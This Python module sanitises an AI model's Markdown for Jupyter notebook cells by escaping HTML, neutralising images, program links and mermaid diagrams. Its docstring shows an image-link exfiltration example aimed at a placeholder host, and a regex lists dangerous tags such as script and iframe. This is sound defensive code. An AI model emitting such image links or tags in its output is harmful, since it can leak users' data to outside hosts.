"""Makes a model's Markdown fit for a cell of a notebook, where HTML in it is obeyed and pictures are loaded. Pure.

Jupyter cleans what a Markdown cell becomes, but it does load pictures: `![](https://host/?what-the-code-printed)` would
send away what it says, without a click. So HTML is shown as text, and a picture becomes a link to it.
"""

import re
from collections.abc import Iterator
from itertools import pairwise

from markdown_it import MarkdownIt

from codeagent_nb.rendering.cleaning.addresses import LINK
from codeagent_nb.rendering.cleaning.mathematics import MATHEMATICS, without_refused
from kernel_executor.outputs.html_text import unescaped

TEXT_LIMIT = 50_000
"""Characters of one cell: the whole stands in the journal. JupyterLab renders a cell's text at one go."""

PIECE = re.compile(r"\\[\\`$]|(?P<ticks>`+)|(?P<math>\$[^$\n]+\$)|\\?<(?=[A-Za-z/!?])|\\?!(?=\[)")
SHOWN = {"<": "&lt;", "!": "&#33;"}
"""Also for what is escaped: an address before it may end with the backslash."""
IN_MATH = re.compile(r"<(?=[A-Za-z/!?])|!(?=\[)")
"""TeX reads `a< b` as it reads `a<b`."""
TAG_END = re.compile(r"(?<=>)")
TAG_BEGUN = re.compile(r"<(?=[A-Za-z/!?])")
IN_CODE = re.compile(
    r"<(?:[!?]|(?!https?:)[A-Z][A-Z0-9+.-]*:(?!:)|/?(?:base|embed|form|frame|frameset|iframe|link|math|meta|noembed"
    r"|noframes|noscript|object|plaintext|script|style|svg|template|textarea|title|xmp)(?![A-Za-z0-9]))",
    re.IGNORECASE,
)
UNCLOSED = re.compile(r"</?[A-Za-z][^\s/<]*[\s/]")
"""Code stays as it is, but for what would be obeyed: another parser may not agree on where code begins and ends."""

DESTINATION = re.compile(r"\](?=[(:][\s<>\\]*+(.{0,200}))", re.DOTALL)
PADDED = re.compile(r"&#x?000", re.IGNORECASE)
"""A reference that is written longer than it need be: the address might begin behind what is looked at."""
NO_PART_OF_A_DESTINATION = re.compile(r"[\x00-\x20\\<>]")
"""Left out by browsers or by Markdown, or the mark of a quotation in whose next line the address stands."""

PARAGRAPH_END = re.compile(r"(?<=\n)(?=[ \t]*\n)")
DIAGRAM = re.compile(r"^([ \t>*+.)\d-]*(?:`{3,}|~{3,})[ \t]*)mermaid", re.IGNORECASE | re.MULTILINE)
"""JupyterLab draws it, and a node of mermaid can be a picture, which is loaded."""

BLOCKS = MarkdownIt("commonmark", {"html": False}).disable(["inline", "text_join"])
READER = MarkdownIt("commonmark", {"html": True, "maxNesting": 100}).enable("table").disable(["link", "emphasis"])
"""Finds HTML and pictures; looking for links, too, took 3 s for 6,000 brackets."""
ALIVE = {"html_block", "html_inline", "image"}


def harmless_markdown(text: str) -> str:
    """Return Markdown that reads the same, holds no HTML, loads nothing and leads to no program.

    Args:
        text: What the model wrote; of more than `TEXT_LIMIT` characters the beginning is left.
    """
    if len(text) > TEXT_LIMIT:
        text = f"{text[:TEXT_LIMIT]}\n\n*… {len(text) - TEXT_LIMIT:,} more characters are left out here.*"
    if MATHEMATICS.search(text):
        text = without_refused(text)
    text = DIAGRAM.sub(r"\1text", text.replace("\r\n", "\n").replace("\r", "\n"))
    if not any(sign in text for sign in ("<", "![", "](", "]:")):
        return text
    harmless = "".join(_harmless_parts(text))
    if not _is_alive(harmless):
        return harmless
    return _without_programs(text).replace("<", "&lt;").replace("![", "&#33;[")


def _is_alive(text: str) -> bool:
    """Whether HTML or a picture is left: what was taken for code here was none."""
    tokens = READER.parse(text)
    return any(token.type in ALIVE for parent in tokens for token in (parent, *(parent.children or ())))


def _harmless_parts(text: str) -> Iterator[str]:
    lines = text.split("\n")  # not `splitlines`, which knows more ends of lines than Markdown does
    lines = [*(f"{line}\n" for line in lines[:-1]), lines[-1]]
    ranges = [*_code_ranges(text)]
    code = ["".join(lines[start:end]) for start, end, _ in ranges]
    bounds = [(0, 0, False), *ranges, (len(lines), len(lines), False)]
    words = ["".join(lines[end:start]) for (_, end, _), (start, _, _) in pairwise(bounds)]
    # A definition's title may hold a whole fence, if you ask `marked`, which JupyterLab does.
    is_clear = not any(map(MATHEMATICS.search, code)) and not any("]:" in part for part in words)
    yield _harmless_words(words[0])
    for (_, _, is_plain_fence), block, part in zip(ranges, code, words[1:], strict=True):
        yield block if is_plain_fence and is_clear else spaced_code(block)
        yield _harmless_words(part)


def _code_ranges(text: str) -> Iterator[tuple[int, int, bool]]:
    """Yield the lines of each block of code, and whether it is one that every parser finds."""
    end = 0
    for token in BLOCKS.parse(text):
        if token.type in {"fence", "code_block"} and token.map and token.map[0] >= end:
            end = token.map[1]
            yield token.map[0], end, token.type == "fence" and token.level == 0


def _harmless_words(text: str) -> str:
    text = _without_programs(text)
    return "".join(part for paragraph in PARAGRAPH_END.split(text) for part in _harmless_pieces(paragraph))


def _harmless_pieces(text: str) -> Iterator[str]:
    last = {len(ticks[0]): ticks.start() for ticks in re.finditer("`+", text)}
    position = 0
    while found := PIECE.search(text, position):
        yield text[position : found.start()]
        position = found.end()
        piece = found[0]
        if last.get(len(found["ticks"] or ""), 0) > found.start():  # else it has no end: looking for one was quadratic
            position = _end_of_code(text, found)
            yield spaced_code(text[found.start() : position])
        elif found["math"]:
            yield IN_MATH.sub(lambda sign: f"{sign[0]} ", piece)
        else:
            yield SHOWN.get(piece.removeprefix("\\"), piece)
    yield text[position:]


def _without_programs(text: str) -> str:
    """Return Markdown in which what leads to a program is no link any more: nbconvert leaves `javascript:` as it is."""
    return DESTINATION.sub(lambda found: "]" if _leads_on(found[1]) else "] ", text)


def _leads_on(destination: str) -> bool:
    flat = NO_PART_OF_A_DESTINATION.sub("", unescaped(destination))
    return bool(LINK.match(flat)) and not PADDED.search(destination)


def _end_of_code(text: str, opening: re.Match[str]) -> int:
    runs = re.compile("`+").finditer(text, opening.end())
    return next((run.end() for run in runs if len(run[0]) == len(opening[0])), opening.end())


def spaced_code(code: str) -> str:
    """Return code with a space in each tag that would be obeyed, and in each picture, if it were not code."""
    spaced = "".join(map(_spaced_tags, TAG_END.split(code)))
    return _without_programs(spaced.replace("![", "! ["))


def _spaced_tags(code: str) -> str:
    """Do so in code in which one tag may end, at its end; a tag without a value stays unless its name says enough."""
    value = code.rfind("=")
    is_closed = code.endswith(">")

    def space(found: re.Match[str]) -> str:
        at = found.start()
        is_obeyed = at < value or IN_CODE.match(code, at) or (not is_closed and UNCLOSED.match(code, at))
        return "< " if is_obeyed else "<"

    return TAG_BEGUN.sub(space, code)


def harmless_quotes(text: str) -> str:
    """Return Markdown of ours, with blocks of code that are quoted, so that no code of it is obeyed.

    JupyterLab looks for mathematics before it looks for code: a formula that begins in one block and ends in the next
    hides the fences between them, and what follows is code no more.
    """
    return spaced_code(without_refused(text)) if MATHEMATICS.search(text) else text
